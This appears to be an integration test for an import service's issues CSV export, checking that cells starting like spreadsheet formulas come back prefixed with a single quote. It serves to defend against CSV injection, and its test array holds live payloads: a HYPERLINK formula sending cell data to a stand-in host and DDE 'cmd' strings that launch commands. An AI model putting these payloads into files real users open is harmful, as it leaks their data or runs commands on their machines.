/**
 * Issue 17, finding 11 over HTTP: `GET /imports/{batchId}/issues.csv` carries a rejected cell that a
 * spreadsheet would run (`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`) as text, prefixed with a single quote.
 */
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { startApi, type RunningApi } from './apiSupport/apiProcess';
import { call, login } from './apiSupport/http';
import { seedUsers, USERS } from './apiSupport/seed';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-1+cmd|x!A0'];

let db: TestDatabase;
let api: RunningApi;

beforeAll(async () => {
  db = await createTestDatabase();
  await seedUsers(db.pool);
  api = await startApi({ databaseUrl: db.url, fakeCommands: true });
});

afterAll(async () => {
  await api?.stop();
  await db?.drop();
});

it('the issues CSV neutralises every cell that starts like a formula, and keeps line numbers as numbers', async () => {
  const b = await db.pool.query<{ id: string }>(
    `INSERT INTO import_batch (source, file_name, checksum, imported_by, status) VALUES ('registrations', '@evil.csv', 'x', 't', 'completed') RETURNING id`,
  );
  const batchId = Number(b.rows[0].id);
  for (const [i, value] of [...HOSTILE, '-7'].entries()) {
    await db.pool.query(
      `INSERT INTO import_issue (batch_id, file, line, col, value, reason, severity) VALUES ($1, '@evil.csv', $2, '身份证号', $3, '身份证号格式错误', 'rejected')`,
      [batchId, i + 2, value],
    );
  }
  const token = await login(api.url, 'coordinator', USERS.coordinator.password);
  const r = await call(api.url, 'GET', `/imports/${batchId}/issues.csv`, { token });
  expect(r.status).toBe(200);
  const rows: string[][] = parse(r.text.replace(/^\uFEFF/, ''), { relax_column_count: false });
  const data = rows.slice(1);
  expect(data.map((x) => x[3])).toEqual([...HOSTILE.map((v) => `'${v}`), '-7']);
  expect(data.every((x) => x[0] === "'@evil.csv")).toBe(true);
  expect(data.map((x) => x[1])).toEqual(['2', '3', '4', '5', '6']);
});
